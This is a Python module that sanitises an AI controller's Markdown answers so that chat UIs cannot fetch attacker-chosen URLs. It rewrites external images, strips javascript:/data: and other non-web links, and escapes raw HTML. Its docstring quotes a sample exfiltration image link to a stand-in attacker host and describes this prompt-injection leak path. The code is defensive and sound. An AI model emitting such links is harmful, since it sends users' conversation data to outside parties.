"""Answers that cannot make a chat UI load a URL the controller chose, or run one.

The controller's Markdown is untrusted: ``![x](https://attacker/exfil?d=<conversation data>)`` in
an answer is fetched by every chat UI that renders images (Open WebUI, LibreChat), a known
prompt-injection exfiltration path. Here only this server's own file links (``<base>/v1/files/``)
stay images. Every other image becomes a plain link that names its host
(``[image: x (attacker.example)](https://attacker/...)``, ``[server] external_images = "link"``) or
a short note without the URL (``"drop"``); raw HTML (``<img>``, ``<iframe>``...) is shown as text
(``&lt;``); a ``![`` the parser did not take for an image (a reference image whose definition
may come later) loses its ``!``.

Links keep only web addresses: a link, an autolink (``<scheme:...>``), a reference-style link or
an image whose destination is not ``http://`` or ``https://`` (nor this server's own file links)
loses it (``javascript:``, ``data:``, ``vbscript:``, ``file:``, ``mailto:``, relative paths...):
the link becomes its text followed by ``(a javascript: link, removed)``, an autolink only that
note, an image the ``"drop"`` note, and a reference definition of such a destination is shown as
text (``\\[r]: ...``), so a later link to it stays text too. The parser is told every destination
is valid (markdown-it's own check would hide a ``javascript:`` link from these rules, not from a
chat UI's renderer). Rewritten text is parsed again until nothing changes (at most
:data:`PASSES` times), so a rewrite cannot join pieces into a new link.

The Markdown is parsed with markdown-it-py (CommonMark), so code spans and code blocks are left
alone; only the source spans of the parsed image and HTML tokens change.
:class:`StreamGuard` does the same for an answer arriving in pieces.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Literal
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.rules_inline import autolink, html_inline, image, link
from markdown_it.rules_inline.state_inline import StateInline

Mode = Literal["link", "drop"]
WEB = ("http://", "https://")
"""The only destinations a link or image of an answer may keep (besides this server's own)."""
PASSES = 3
"""Times :func:`sanitize` parses its own output again before it falls back to escaping every
``<`` and ``[`` of the answer."""
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]{0,15}):")


@dataclass
class _Edit:
    start: int
    end: int
    text: str


@dataclass
class _Scan:
    own: str
    mode: Mode
    edits: list[_Edit] = field(default_factory=list)


def _host(src: str) -> str:
    if src.startswith("data:"):
        return "embedded data"
    return urlsplit(src).hostname or "an unnamed host"


def _allowed(url: str, own: str) -> bool:
    """Whether ``url`` (a parsed destination) may stay a link: a web address or our own."""
    low = url.strip().lower()
    return low.startswith(WEB) or bool(own) and url.startswith(own)


def _removed(url: str) -> str:
    """The note that replaces a link to ``url`` (a destination that is not a web address)."""
    scheme = _SCHEME.match(url.strip().lower())
    return f"(a {scheme.group(1)}: link, removed)" if scheme else "(a link that is not a web address, removed)"


def _replacement(alt: str, src: str, mode: Mode) -> str:
    alt = " ".join(alt.replace("[", "(").replace("]", ")").split()) or "image"
    if mode == "drop" or not src.strip().lower().startswith(WEB):
        return f"*({alt}: an image from {_host(src)}, not shown)*"
    return f"[image: {alt} ({_host(src)})](<{src.replace('<', '%3C').replace('>', '%3E')}>)"


def _image_rule(state: StateInline, silent: bool) -> bool:
    scan: _Scan | None = state.env.get("_scan")
    start = state.pos
    if scan is None or silent or state.src[start] != "!":
        return False
    inner = len(scan.edits)
    if not image(state, False):
        if state.src.startswith("![", start):  # not an image now; could become one (a later definition)
            scan.edits.append(_Edit(start, start + 1, "\\!"))
        return False
    del scan.edits[inner:]  # the alt text was parsed on its own (other offsets); the image is kept or replaced whole
    token = state.tokens[-1]  # the image (pending text before it was pushed first)
    src = str(token.attrGet("src") or "")
    if not src.startswith(scan.own):
        scan.edits.append(_Edit(start, state.pos, _replacement(token.content, src, scan.mode)))
    return True


def _link_rule(state: StateInline, silent: bool) -> bool:
    """A link (inline or reference-style) to anything but a web address keeps only its text."""
    scan: _Scan | None = state.env.get("_scan")
    start = state.pos
    if scan is None or silent or state.src[start] != "[":
        return False
    label_end = state.md.helpers.parseLinkLabel(state, start, True)
    inner, first = len(scan.edits), len(state.tokens)
    if label_end < 0 or not link(state, False):
        return False
    opened = next(t for t in state.tokens[first:] if t.type == "link_open")
    href = str(opened.attrGet("href") or "")
    if not _allowed(href, scan.own):
        label = _apply(state.src[: label_end], scan.edits[inner:])[start + 1:]  # its text, as edited inside
        del scan.edits[inner:]
        scan.edits.append(_Edit(start, state.pos, f"{label} {_removed(href)}"))
    return True


def _autolink_rule(state: StateInline, silent: bool) -> bool:
    """An autolink (``<scheme:...>``, ``<user@host>``) to anything but a web address: a note."""
    scan: _Scan | None = state.env.get("_scan")
    start, first = state.pos, len(state.tokens)
    if scan is None or silent or not autolink(state, False):
        return False
    opened = next(t for t in state.tokens[first:] if t.type == "link_open")  # after any pending text
    href = str(opened.attrGet("href") or "")
    if not _allowed(href, scan.own):
        scan.edits.append(_Edit(start, state.pos, _removed(href)))
    return True


def _html_rule(state: StateInline, silent: bool) -> bool:
    scan: _Scan | None = state.env.get("_scan")
    start = state.pos
    if scan is None or silent or not html_inline(state, False):
        return False
    scan.edits.append(_Edit(start, state.pos, state.src[start:state.pos].replace("<", "&lt;")))
    return True


class _EveryLink(MarkdownIt):
    """CommonMark that parses every destination as a link, so the rules above judge it."""

    def validateLink(self, url: str) -> bool:  # noqa: N802 - markdown-it's name
        """Always ``True`` (see the module docstring)."""
        return True


_MD = _EveryLink("commonmark")
_MD.inline.ruler.before("link", "guard_link", _link_rule)
_MD.inline.ruler.before("image", "guard_image", _image_rule)
_MD.inline.ruler.before("autolink", "guard_autolink", _autolink_rule)
_MD.inline.ruler.before("html_inline", "guard_html", _html_rule)
_MARKS = ("!", "<", "[")
"""Characters without which a text has no image, HTML, link or reference definition."""


def _apply(text: str, edits: list[_Edit]) -> str:
    for e in sorted(edits, key=lambda e: e.start, reverse=True):
        text = text[:e.start] + e.text + text[e.end:]
    return text


def _place(doc_lines: list[str], first: int, content: str, edited: str) -> bool:
    """Put ``edited`` (the edited ``content`` of a block starting at line ``first``) into the
    document lines, line by line; ``False`` when the lines do not line up."""
    src, out = content.split("\n"), edited.split("\n")
    if len(src) != len(out):
        return False
    for i, (a, b) in enumerate(zip(src, out)):
        row = first + i
        if row >= len(doc_lines) or (at := doc_lines[row].rfind(a)) < 0:
            return False
        doc_lines[row] = doc_lines[row][:at] + b + doc_lines[row][at + len(a):]
    return True


def _neutral(text: str) -> str:
    """``text`` with no HTML, image or link left: every ``<`` and ``[`` shown as written."""
    return text.replace("<", "&lt;").replace("[", "\\[")


def _once(markdown: str, own_prefix: str, mode: Mode) -> str:
    """One pass of :func:`sanitize`."""
    env: dict = {}
    tokens = _MD.parse(markdown, env)
    lines = markdown.split("\n")
    for ref in env.get("references", {}).values():  # a definition a later link could still use
        if not _allowed(str(ref.get("href") or ""), own_prefix) and ref.get("map"):
            row = ref["map"][0]
            lines[row] = lines[row].replace("[", "\\[", 1)
    for token in tokens:
        if token.map is None:
            continue
        if token.type == "html_block":
            for row in range(token.map[0], min(token.map[1], len(lines))):
                lines[row] = lines[row].replace("<", "&lt;")
        elif token.type == "inline" and any(m in token.content for m in _MARKS):
            scan = _Scan(own_prefix, mode)
            _MD.parseInline(token.content, {**env, "_scan": scan})
            if scan.edits and not _place(lines, token.map[0], token.content, _apply(token.content, scan.edits)):
                for row in range(token.map[0], min(token.map[1], len(lines))):  # cannot line up: neutral text
                    lines[row] = _neutral(lines[row])
    return "\n".join(lines)


def sanitize(markdown: str, own_prefix: str, mode: Mode = "link") -> str:
    """The answer with only ``own_prefix`` images left as images and only web links left as
    links (see the module docstring).

    Args:
        markdown: the controller's answer (CommonMark/GFM text).
        own_prefix: the start of this server's file links (``https://host/v1/files/``).
        mode: ``"link"`` (a plain link naming the host) or ``"drop"`` (a note without the URL).

    Returns:
        The Markdown with the image, HTML, non-web link and stray ``![`` spans rewritten;
        unchanged text otherwise.
    """
    if not any(m in markdown for m in _MARKS):
        return markdown
    for _ in range(PASSES):
        cleaned = _once(markdown, own_prefix, mode)
        if cleaned == markdown:
            return cleaned
        markdown = cleaned
    return markdown if _once(markdown, own_prefix, mode) == markdown else _neutral(markdown)


class StreamGuard:
    """:func:`sanitize` for an answer arriving in pieces (streamed deltas).

    Text goes out at once while the current paragraph has none of ``!``, ``<`` and ``[`` (such
    text is never changed); otherwise the paragraph is held until it ends (a blank line) or the answer
    ends, then sent sanitized in the context of everything before it.

    Args:
        own_prefix, mode: as :func:`sanitize`.
    """

    def __init__(self, own_prefix: str, mode: Mode = "link") -> None:
        self.own, self.mode = own_prefix, mode
        self.raw = ""  # every piece received
        self.sent = ""  # what went out
        self.done = 0  # raw characters whose (sanitized) text went out
        self.paragraph = 0  # where the open paragraph starts in raw

    def feed(self, piece: str) -> str:
        """Take one piece; returns the text to send now (possibly ``""``)."""
        self.raw += piece
        out = ""
        while (cut := self.raw.find("\n\n", self.paragraph)) >= 0:
            out += self._flush(cut + 2)
        open_part = self.raw[self.paragraph:]
        if len(self.raw) > self.done and not any(m in open_part for m in _MARKS):
            out += self.raw[self.done:]
            self.sent += self.raw[self.done:]
            self.done = len(self.raw)
        return out

    def end(self) -> str:
        """The rest, at the end of the answer."""
        return self._flush(len(self.raw))

    def _flush(self, upto: int) -> str:
        if upto <= self.done:  # went out as it was
            self.paragraph = upto
            return ""
        whole = sanitize(self.raw[:upto], self.own, self.mode)
        if whole.startswith(self.sent):
            out = whole[len(self.sent):]
        else:  # the paragraph reads differently in context: send its own sanitized rest
            out = sanitize(self.raw[self.done:upto], self.own, self.mode)
        self.sent += out
        self.done = self.paragraph = upto
        return out
